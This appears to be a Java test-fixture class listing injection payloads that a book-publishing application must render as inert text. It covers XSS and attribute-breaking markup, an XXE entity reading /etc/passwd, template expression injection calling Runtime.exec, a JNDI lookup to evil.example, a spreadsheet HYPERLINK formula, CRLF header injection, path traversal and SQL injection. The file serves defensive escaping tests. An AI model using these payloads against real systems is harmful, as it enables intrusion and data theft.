package no.varde.attack;

import java.util.List;
import java.util.stream.Stream;
import no.varde.HostileTexts;

/** Texts that are more than text to whatever does not write them as text. */
final class Payloads {

    /** What some of them come to where they are worked out. */
    static final String WORKED_OUT = "62615533";

    private static final String SUM = "7919*7907";

    private Payloads() {}

    /** Returns texts that a book may have: each is shown as it is, and does nothing. */
    static List<String> accepted() {
        return Stream.of(HostileTexts.markup().stream(), attributes(), expressions(), others())
                .flatMap(all -> all)
                .toList();
    }

    private static Stream<String> attributes() {
        return Stream.of(
                "\" onmouseover=\"alert(1)",
                "' onfocus='alert(1)' autofocus='",
                "\"><script>alert(1)</script><a href=\"",
                "x\" style=\"background:url(//evil.example)",
                "javascript:alert(1)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "//evil.example/x",
                "</title><script>alert(1)</script>",
                "</textarea><form action=//evil.example>",
                "</main></body></html>",
                "--><b>x</b><!--",
                "]]><b>x</b>",
                "<![CDATA[<b>x</b>]]>",
                "<?xml-stylesheet href=\"//evil.example/x\"?>",
                "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
                "<b data-hx-get=\"/forlat\" hx-trigger=\"load\">x</b>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<base href=//evil.example>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>");
    }

    private static Stream<String> expressions() {
        return Stream.of(
                "${" + SUM + "}",
                "[[${" + SUM + "}]]",
                "[(${" + SUM + "})]",
                "*{" + SUM + "}",
                "__${" + SUM + "}__::.x",
                "|${" + SUM + "}|",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "#{layout.title(${" + SUM + "})}",
                "@{//evil.example}",
                "~{layout :: page}",
                "{{" + SUM + "}}",
                "#{" + SUM + "}",
                "%{" + SUM + "}",
                "<th:block th:utext=\"${" + SUM + "}\">x</th:block>",
                "${jndi:ldap://evil.example/x}",
                "{0} {1,number,#} {YES} {clause}",
                "%s %n %d %1$tY");
    }

    private static Stream<String> others() {
        return Stream.of(
                "=1+1",
                "+1",
                "@SUM(1)",
                "=HYPERLINK(\"http://evil.example\";\"x\")",
                "\\u001b[2J",
                "%0d%0aSet-Cookie: x=y",
                "../../../etc/passwd",
                "'; DROP TABLE x; --",
                "x".repeat(3000),
                "veldig ".repeat(400) + "lang",
                "\u05e9\u05dc\u05d5\u05dd",
                "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643",
                "\ud83d\udea8 hjelp \ud83c\uddf3\ud83c\uddf4",
                "a" + "\u0301".repeat(60),
                "\u4f60\u597d",
                "\ufdfd");
    }

    /** Returns texts that no book may have, as YAML writes them between quotation marks. */
    static List<String> refused() {
        return List.of(
                "a\\u0000b",
                "a\\eb",
                "a\\u0008b",
                "a\\u009bb",
                "a\\u202eb",
                "a\\u2028b",
                "a\\ufffeb",
                "a\\nb",
                "a\\u200bb",
                "");
    }
}
